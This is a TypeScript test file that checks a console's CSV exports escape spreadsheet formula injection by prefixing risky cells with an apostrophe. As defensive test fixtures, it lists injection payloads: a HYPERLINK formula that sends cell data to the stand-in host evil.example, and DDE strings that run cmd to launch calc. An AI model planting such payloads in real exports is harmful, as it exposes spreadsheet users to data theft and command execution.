import type { ComparisonRow } from '@data/get-comparison.ts';
import type { RunListItem } from '@data/get-runs.ts';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { comparisonCsv } from '../features/compare/comparison-csv.ts';
import { transcriptCsv } from '../features/results/export-run.ts';
import { runsCsv } from '../features/results/export-runs.ts';
import { savedRun } from '../features/results/test-fixtures.ts';
import { toCsv } from '../lib/csv.ts';

/** Payloads that spreadsheets run as formulas or that Excel strips into one. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
];

/** The CSV's rows, header first; `cell(rows, 2, 'name')` reads row 2's cell of that column. */
const parse = (csv: string) => Papa.parse<string[]>(csv, { newline: '\r\n' }).data;
const cell = (rows: string[][], row: number, column: string) =>
  rows[row]?.[rows[0]?.indexOf(column) ?? -1];

describe('toCsv', () => {
  it.each(FORMULAS)('prefixes a text cell starting a formula with an apostrophe: %j', (text) => {
    expect(cell(parse(toCsv([{ text }], ['text'])), 1, 'text')).toBe(`'${text}`);
  });

  it('leaves other text and numbers (negative ones included) as they are', () => {
    const rows = [{ a: 'plain = text', b: -42, c: 1.5, d: 'a, "quoted" cell' }];
    expect(parse(toCsv(rows, ['a', 'b', 'c', 'd']))[1]).toEqual([
      'plain = text',
      '-42',
      '1.5',
      'a, "quoted" cell',
    ]);
  });
});

describe('every CSV the console writes neutralises formulas', () => {
  it('the transcript CSV', () => {
    const run = savedRun();
    run.conversation_history = FORMULAS.map((content, index) => ({
      speaker: 'simulated_user',
      content,
      timestamp: new Date(Date.parse(run.created_at) + index * 1000).toISOString(),
    }));
    const rows = parse(transcriptCsv(run));
    for (const [index, text] of FORMULAS.entries()) {
      expect(cell(rows, index + 1, 'content')).toBe(`'${text}`);
    }
  });

  it('the runs CSV', () => {
    const runs: RunListItem[] = FORMULAS.map((name, index) => ({
      run_id: `11111111-2222-4333-8444-55555555555${index}`,
      created_at: '2026-11-20T10:00:00+00:00',
      num_turns: 3,
      end_reason: 'user_ended',
      duration_ms: 1000,
      scenario_hash: null,
      scenario: { name },
      metrics: null,
    }));
    const rows = parse(runsCsv(runs, { header: true }));
    for (const [index, text] of FORMULAS.entries()) {
      expect(cell(rows, index + 1, 'scenario')).toBe(`'${text}`);
    }
  });

  it('the comparison CSV', () => {
    const rows: ComparisonRow[] = FORMULAS.map((text) => ({
      scenario_hash: null,
      scenario_name: text,
      interviewer_model: text,
      simulated_user_model: 'gpt-4.1-mini',
      runs: 1,
      runs_with_checks: 0,
      pass_rate: null,
      mean_judge_score: null,
      judged_runs: 0,
      median_first_audio_p50_ms: null,
      median_first_audio_p95_ms: null,
      mean_tokens: 10,
      mean_cost_usd: null,
      unpriced_runs: 1,
      last_run_at: '2026-11-20T10:00:00+00:00',
      voice_runs: 0,
      median_voice_to_voice_p50_ms: null,
      median_voice_to_voice_p95_ms: null,
      wer: null,
    }));
    const parsed = parse(comparisonCsv(rows));
    for (const [index, text] of FORMULAS.entries()) {
      expect(cell(parsed, index + 1, 'scenario_name')).toBe(`'${text}`);
      expect(cell(parsed, index + 1, 'interviewer_model')).toBe(`'${text}`);
    }
  });
});
